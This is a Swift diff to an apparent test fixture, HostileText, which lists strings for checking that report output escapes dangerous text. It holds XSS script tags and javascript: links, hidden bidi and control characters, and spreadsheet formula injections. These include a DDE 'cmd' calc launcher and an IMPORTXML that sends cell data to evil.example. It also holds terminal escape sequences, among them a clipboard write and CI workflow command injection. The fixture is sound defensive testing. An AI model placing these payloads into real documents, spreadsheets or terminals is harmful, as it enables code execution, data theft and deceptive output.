@@ -1,10 +1,8 @@
-import Reports
+/// Text that would act, break or hide, if a writer let it: each in a field of a return or of a study.
+package enum HostileText {
+  package static let all = markup + links + markdown + hidden + formulas + terminal
 
-/// Text that would act, break or hide, if a writer let it.
-enum HostileText {
-  static let all = markup + links + markdown + hidden
-
-  static let markup = [
+  package static let markup = [
     "<script>alert(1)</script>",
     "</script><script>alert(1)</script>",
     "</style><script>alert(1)</script>",
@@ -32,7 +30,7 @@ enum HostileText {
     "<b>bold</b> &amp; &copy;",
   ]
 
-  static let links = [
+  package static let links = [
     "javascript:alert(1)",
     "JaVaScRiPt:alert(1)",
     "java\tscript:alert(1)",
@@ -52,7 +50,7 @@ enum HostileText {
     "\\[here](https://evil.example)",
   ]
 
-  static let markdown = [
+  package static let markdown = [
     "# Heading",
     "- item",
     "+ item",
@@ -87,7 +85,7 @@ enum HostileText {
     "line\r\n# heading",
   ]
 
-  static let hidden = [
+  package static let hidden = [
     "left\u{202E}right",
     "\u{2066}isolated\u{2069}",
     "mark\u{200F}mark\u{200E}",
@@ -98,36 +96,44 @@ enum HostileText {
     "next line\u{85}line\u{2028}paragraph\u{2029}",
     "tag\u{E0041}\u{E007F}",
     "private\u{E000}",
+    "Arabic\u{61C}letter mark",
+    "Mongolian\u{180E}vowel",
+    "embedded\u{202A}left\u{202B}right\u{202D}over\u{202C}",
+    "filler\u{3164}and\u{115F}",
+    "word\u{2060}joiner\u{2061}",
+    "joined\u{34F}graphemes\u{FE0F}",
+    "annotated\u{FFF9}text\u{FFFA}note\u{FFFB}",
   ]
-}
 
-extension Report {
-  /// A report with the same text in every field that holds text.
-  static func filled(with text: String) -> Report {
-    let inlines: [Inline] = [
-      .text(text), .figure(PrintedFigure(id: text, text: text)),
-      .emphasis([.text(text)]), .text(" "), .strong([.text(text)]), .text(" "), .code(text),
-      .text(" "), .link([.text(text)], to: text), .text(" "),
-      .link([.text(text)], to: "https://example.org/"), .text(text),
-    ]
-    let table = Table(
-      id: text, caption: text, columns: [.init(text), .init(text, isNumeric: true)],
-      rows: [[inlines, [.text(text)]], [[.code(text)], inlines]], notes: [inlines])
-    let chart = ChartBlock(
-      id: text, title: text, subtitle: text, alternativeText: text, svg: "<svg></svg>",
-      table: table, notes: [inlines])
-    return Report(
-      id: text, title: text, standfirst: inlines,
-      sections: [
-        Section(
-          id: text, heading: text,
-          blocks: [
-            .paragraph(inlines), .list([inlines, [.text(text)]]), .numberedList([[.text(text)]]),
-            .definitions([DefinitionEntry(term: inlines, text: inlines)]),
-            .heading(3, [.text(text)]), .quote([.paragraph([.text(text)])]),
-            .preformatted(text), .table(table),
-            .chart(chart),
-          ])
-      ])
-  }
+  /// What a spreadsheet program would run.
+  package static let formulas = [
+    "=HYPERLINK(\"https://evil.example\",\"Charged\")",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@SUM(A:A)",
+    "'=SUM(A:A)",
+    "''@SUM(A:A)",
+    "=IMPORTXML(CONCAT(\"https://evil.example/\",A:A),\"//a\")",
+    "%0A=SUM(A:A)",
+    "\u{FF1D}SUM(A:A)",
+    "\u{FF0B}SUM(A:A)",
+    "\u{FF20}SUM(A:A)",
+    "\",=SUM(A:A),\"",
+    "a;=SUM(A:A);b",
+  ]
+
+  /// What a terminal would obey.
+  package static let terminal = [
+    "cleared \u{1B}[2J\u{1B}[H",
+    "titled \u{1B}]0;Other title\u{7}",
+    "linked \u{1B}]8;;https://evil.example\u{1B}\\here\u{1B}]8;;\u{1B}\\",
+    "one byte \u{9B}31mred \u{9D}0;title\u{9C}",
+    "typed \u{8}\u{8}\u{8}over",
+    "asked \u{1B}[6n\u{5}",
+    "shifted \u{E}out\u{F}",
+    "copied \u{1B}]52;c;Y2FsYw==\u{7}",
+    "::error file=a,line=1::said by a label",
+    "%0A::stop-commands::x",
+  ]
 }
